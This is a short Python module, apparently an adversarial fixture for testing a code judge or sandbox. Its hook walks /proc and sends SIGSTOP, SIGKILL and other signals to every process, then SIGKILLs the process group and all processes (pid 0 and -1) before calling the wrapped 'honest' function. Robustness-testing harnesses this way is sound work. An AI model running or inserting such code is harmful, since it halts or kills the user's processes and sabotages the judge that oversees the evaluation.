"""Sends stop, kill and every other signal to everybody: parent, judge, group, all."""

import os, signal


def during(name, honest, args, kwargs):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            for number in (
                signal.SIGSTOP,
                signal.SIGKILL,
                signal.SIGTERM,
                signal.SIGALRM,
                signal.SIGUSR1,
            ):
                try:
                    os.kill(int(pid), number)
                except OSError:
                    break
    for target in (-1, 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return honest(*args, **kwargs)
